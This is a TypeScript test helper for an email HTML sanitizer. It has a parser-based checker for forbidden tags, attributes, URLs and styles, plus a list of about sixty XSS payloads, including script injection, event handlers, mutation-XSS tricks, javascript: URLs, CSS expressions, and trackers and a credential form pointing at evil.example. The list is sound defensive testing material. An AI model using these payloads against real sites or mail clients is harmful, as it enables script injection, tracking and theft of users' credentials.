// HTML that people who mean harm have written, and what must never be found in what is made of it.
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { ALLOWED_TAGS, LINK_SCHEME } from '../../shared/mail/html-allow-list.ts';

const ATTRIBUTES = new Set(
  `align bgcolor border cellpadding cellspacing color colspan data-src datetime dir face height href hspace alt lang noshade
  nowrap rel reversed rowspan size span src start style target title type valign value vspace width`.split(/\s+/),
);

/**
 * What a browser would find in the output that it must not find; by a parser that follows the standard. `isSource` tells the
 * addresses of pictures that may stand there.
 */
export function findings(html: string, isSource: RegExp = /^cid:/i): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if (node.nodeName === '#comment') found.push('comment');
    if ('tagName' in node) {
      if (!ALLOWED_TAGS.has(node.tagName)) found.push(`tag ${node.tagName}`);
      if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace ${node.namespaceURI}`);
      for (const { name, value } of node.attrs) {
        if (!ATTRIBUTES.has(name)) found.push(`attribute ${name}`);
        if (name === 'href' && !LINK_SCHEME.test(value)) found.push(`href ${value}`);
        if (name === 'src' && !isSource.test(value)) found.push(`src ${value}`);
        if (name === 'data-src' && !/^https?:\/\//i.test(value)) found.push(`data-src ${value}`);
        if (name === 'style' && /url|expression|import|javascript|position|[\\<@]/i.test(value))
          found.push(`style ${value}`);
      }
    }
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
  };
  visit(parseFragment(html));
  return found;
}

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<object data="javascript:alert(1)">x</object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" id=x name=body class=y>x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/track.gif">',
  '<img srcset="https://evil.example/a.gif 2x" src="cid:a">',
  '<img data-src="javascript:alert(1)">',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:\\65 xpression(alert(1))">x</div>',
  '<div style="color:red;/*" title="*/background:url(x)">x</div>',
  '<p style="font-family:\'x;color:red\'">x</p>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<table><form><input></form><tr><td><script>alert(1)</script>x',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<img/src="x"/onerror=alert(1)>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>x</body>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<p title="a\u0000b&quot;><img src=x onerror=alert(1)>">x</p>',
  '<a href="https://a.example/\u2028javascript:alert(1)">x</a>',
];
